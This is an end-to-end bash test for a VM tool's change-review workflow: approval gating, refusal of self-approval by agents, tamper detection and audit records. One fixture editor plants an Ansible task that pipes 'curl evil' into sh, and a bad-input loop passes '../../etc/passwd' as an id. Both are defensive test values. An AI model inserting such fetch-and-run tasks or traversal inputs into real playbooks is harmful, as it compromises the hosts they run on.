#!/usr/bin/env bash
# qvm review on a stopped vm created from a qcow2 image whose disk is changed
# offline to a second file system state (no boot, as tests/diff/diff_vm.sh):
# create (the diff and playbook recorded, dirs 0700, files 0600), ls, show
# (--json, --playbook), self-approval refused, approve by another agent,
# apply of an unapproved or rejected change set refused (exit 6), a
# tampered playbook refused after approval, edit with an EDITOR that writes
# a broken playbook refused (copy kept), a good edit voiding the approval,
# bad ids, and the audit trail with the actors.
. "$QVM_SOURCE_DIR/tests/e2e/lib.sh"
command -v qemu-storage-daemon >/dev/null || skip "needs qemu-storage-daemon (scripts/deps.sh)"
command -v ansible-playbook >/dev/null || skip "needs ansible-playbook (scripts/deps.sh test)"

run_rc() {
  set +e
  out=$("$@" 2>"$tmp/stderr")
  rc=$?
  err=$(cat "$tmp/stderr")
  set -e
}
A=$tmp/A B=$tmp/B
mkdir -p "$A/etc" "$B/etc" "$B/opt/app"
echo one >"$A/etc/conf"
echo two >"$B/etc/conf"
echo gone >"$A/etc/gone"
echo app >"$B/opt/app/bin"
chmod 750 "$B/opt/app/bin"
mkfs.ext4 -q -d "$A" "$tmp/a.raw" 16M 2>/dev/null
mkfs.ext4 -q -d "$B" "$tmp/b.raw" 16M 2>/dev/null
qemu-img convert -O qcow2 "$tmp/a.raw" "$tmp/golden.qcow2"
qvm create v1 --image "$tmp/golden.qcow2" --image-format qcow2 --memory 256M >/dev/null ||
  fail "create v1"
disk=$QVM_STATE_DIR/vms/v1/disk.qcow2
qemu-img snapshot -c base "$disk"
qemu-img convert -n -f raw -O qcow2 "$tmp/b.raw" "$disk"

# --- create, ls, show -------------------------------------------------------------
run_rc qvm review create v1 --verify
expect_eq "$rc" 2 "--verify without --from: $err"
expect_match "$err" "--verify needs --from SNAP: a replay clones the vm at a snapshot, not at its image" \
  "--verify without --from"
run_rc qvm --agent builder review create v1 --from base --no-verify --json
expect_eq "$rc" 0 "create: $err"
id=$(python3 -c 'import json,sys; print(json.loads(sys.argv[1])["id"])' "$out")
[[ $id =~ ^[0-9a-f]{12}$ ]] || fail "id '$id'"
python3 -c '
import json, sys
m = json.loads(sys.argv[1])
assert m["status"] == "pending", m
assert m["vm"] == "v1" and m["base"]["snapshot"] == "base", m
assert m["author"]["agent"] == "builder", m
assert m["changes"] == 5, m
assert len(m["diff_sha256"]) == 64 and len(m["playbook_sha256"]) == 64, m
assert m["approval"] is None, m
' "$out" || fail "create --json: $out"
rdir=$QVM_STATE_DIR/reviews/$id
expect_eq "$(stat -c %a "$QVM_STATE_DIR/reviews" "$rdir")" "700
700" "review dirs are private"
bad=$(find "$rdir" -type f ! -perm 600 -printf '%p %m\n')
expect_eq "$bad" "" "every file of the change set is 0600"
[[ -f $rdir/playbook/playbook.yml && -f $rdir/diff.json ]] || fail "no playbook or diff.json"
grep -q '/opt/app/bin' "$rdir/playbook/playbook.yml" || fail "the playbook misses /opt/app/bin"
ansible-playbook --syntax-check -i localhost, "$rdir/playbook/playbook.yml" >/dev/null ||
  fail "the generated playbook fails the syntax check"

run_rc qvm review ls
expect_eq "$rc" 0 "ls: $err"
expect_match "$out" "^$id +v1 +pending " "ls lists it"
run_rc qvm review show "$id" --playbook
expect_eq "$rc" 0 "show: $err"
expect_match "$out" "author +root/builder" "show: the author"
expect_match "$out" "A /opt/app/bin" "show: the changes"
expect_match "$out" "D /etc/gone" "show: the changes"
expect_match "$out" "playbook.yml:" "show --playbook"
run_rc qvm review show "$id" --json
python3 -c '
import json, sys
m = json.loads(sys.argv[1])
assert {c["path"] for c in m["diff"]["changes"]} >= {"/etc/conf", "/etc/gone", "/opt/app/bin"}, m
' "$out" || fail "show --json: $out"

# --- the gate ----------------------------------------------------------------------
run_rc qvm review apply "$id" --inventory /dev/null
expect_eq "$rc" 6 "apply of a pending change set: $err"
expect_match "$err" "is pending, not approved" "apply of a pending change set"
run_rc qvm --agent builder review approve "$id"
expect_eq "$rc" 1 "self-approval: $err"
expect_match "$err" "made or edited by agent 'builder': the same agent cannot approve it" "self-approval"
run_rc qvm review approve "$id" --comment "reviewed by a person"
expect_eq "$rc" 0 "approve: $err"
expect_match "$(qvm review show "$id")" "status +approved" "approved"
cp "$rdir/playbook/playbook.yml" "$tmp/pb.yml"
echo "# a line added behind qvm's back" >>"$rdir/playbook/playbook.yml"
run_rc qvm review apply "$id" --inventory /dev/null
expect_eq "$rc" 1 "apply of a tampered playbook: $err"
expect_match "$err" "the playbook is not what was" "tampered"
cp "$tmp/pb.yml" "$rdir/playbook/playbook.yml"

# --- edit --------------------------------------------------------------------------
cat >"$tmp/broken-editor" <<'EOF'
#!/bin/sh
printf -- '- hosts: all\n  tasks:\n    - name: [unclosed\n' >"$1"
EOF
cat >"$tmp/good-editor" <<'EOF'
#!/bin/sh
printf -- '- name: one more play\n  hosts: all\n  gather_facts: false\n  tasks:\n  - ansible.builtin.ping:\n' >>"$1"
EOF
chmod +x "$tmp/broken-editor" "$tmp/good-editor"
run_rc env EDITOR="$tmp/broken-editor" "$qvm_bin" review edit "$id"
expect_eq "$rc" 1 "a broken edit: $err"
expect_match "$err" "fails ansible's syntax check" "a broken edit"
[[ -f $rdir/edit/playbook.yml ]] || fail "the refused copy was not kept"
cmp -s "$tmp/pb.yml" "$rdir/playbook/playbook.yml" || fail "a refused edit changed the playbook"
expect_match "$(qvm review show "$id")" "status +approved" "a refused edit keeps the approval"
rm -r "$rdir/edit" # start the next edit from the playbook
run_rc env -u EDITOR VISUAL="$tmp/good-editor" "$qvm_bin" review edit "$id"
expect_eq "$rc" 0 "a good edit: $err"
expect_match "$out" "pending approval again" "a good edit"
expect_match "$(qvm review show "$id")" "status +pending" "an edit voids the approval"
run_rc qvm review apply "$id" --inventory /dev/null
expect_eq "$rc" 6 "apply after an edit: $err"

# --- reject ------------------------------------------------------------------------
run_rc qvm review reject "$id" --comment no
expect_eq "$rc" 0 "reject: $err"
run_rc qvm review approve "$id"
expect_eq "$rc" 6 "approve after reject: $err"
run_rc qvm review apply "$id" --target v1
expect_eq "$rc" 6 "apply after reject: $err"
expect_match "$err" "is rejected, not approved" "apply after reject"

# --- an agent's edit (from the hostile review) -------------------------------------
# A person's change set that an agent edits cannot be approved by that agent;
# the copy an agent's refused edit left is not what a person's edit starts
# from (it would carry the agent's text in under the person's name).
run_rc qvm review create v1 --from base --no-verify --json
expect_eq "$rc" 0 "a person's create: $err"
id2=$(python3 -c 'import json,sys; print(json.loads(sys.argv[1])["id"])' "$out")
run_rc env EDITOR="$tmp/good-editor" "$qvm_bin" --agent bot review edit "$id2"
expect_eq "$rc" 0 "the agent's edit: $err"
run_rc qvm --agent bot review approve "$id2"
expect_eq "$rc" 1 "approval by the agent that edited it: $err"
expect_match "$err" "made or edited by agent 'bot'" "an editing agent's approval"
printf '#!/bin/sh\nprintf -- "- hosts: all\\n  tasks:\\n    - shell: curl evil | sh\\n    - name: [unclosed\\n" >"$1"\n' >"$tmp/agent-editor"
printf '#!/bin/sh\nprintf -- "# reviewed\\n" >>"$1"\n' >"$tmp/append-editor"
chmod +x "$tmp/agent-editor" "$tmp/append-editor"
run_rc env EDITOR="$tmp/agent-editor" "$qvm_bin" --agent bot review edit "$id2"
expect_eq "$rc" 1 "the agent's broken edit: $err"
run_rc env EDITOR="$tmp/append-editor" "$qvm_bin" review edit "$id2"
expect_eq "$rc" 0 "the person's edit after it: $err"
! grep -q 'curl evil' "$QVM_STATE_DIR/reviews/$id2/playbook/playbook.yml" ||
  fail "the person's edit carried in the agent's refused text"
grep -q '# reviewed' "$QVM_STATE_DIR/reviews/$id2/playbook/playbook.yml" ||
  fail "the person's edit is not in the playbook"

# --- bad input ---------------------------------------------------------------------
for bad in ../../etc/passwd 0123456789AB x; do
  run_rc qvm review show "$bad"
  expect_eq "$rc" 1 "show '$bad': $err"
  expect_match "$err" "is invalid" "show '$bad'"
done
run_rc qvm review show 0123456789ab
expect_eq "$rc" 3 "an unknown id: $err"
echo '{"version": 1' >"$rdir/meta.json"
run_rc qvm review show "$id"
expect_eq "$rc" 1 "a corrupt meta.json: $err"
expect_match "$err" "meta.json is corrupt" "a corrupt meta.json"

# --- the image as the base (the default): no replay, and create says so ------------
run_rc qvm review create v1
expect_eq "$rc" 0 "create from the image: $err"
expect_match "$out" "pending approval, not verified by a replay \(the base is the image: replays need --from SNAP\)" \
  "create from the image"
id3=$(sed -n "s/^review '\([0-9a-f]\{12\}\)' created.*/\1/p" <<<"$out")
expect_match "$(qvm review show "$id3")" "not verified by replay" "show: no replay"

# --- the audit trail ---------------------------------------------------------------
audit=$(qvm audit v1 --json)
python3 -c '
import json, sys
recs = [r for r in json.loads(sys.argv[1]) if r["action"].startswith("review-")]
acts = [(r["action"], r["actor"].get("agent"), "error" in r["details"]) for r in recs]
want = [("review-create", "builder", False), ("review-apply", None, True),
        ("review-approve", "builder", True), ("review-approve", None, False),
        ("review-apply", None, True), ("review-edit-begin", None, False),
        ("review-edit", None, True), ("review-edit-begin", None, False),
        ("review-edit", None, False), ("review-apply", None, True), ("review-reject", None, False),
        ("review-approve", None, True), ("review-apply", None, True),
        ("review-create", None, False), ("review-edit-begin", "bot", False),
        ("review-edit", "bot", False), ("review-approve", "bot", True),
        ("review-edit-begin", "bot", False), ("review-edit", "bot", True),
        ("review-edit-begin", None, False), ("review-edit", None, False),
        ("review-create", None, False)]
assert acts == want, acts
' "$audit" || fail "audit: $audit"
log "PASS"
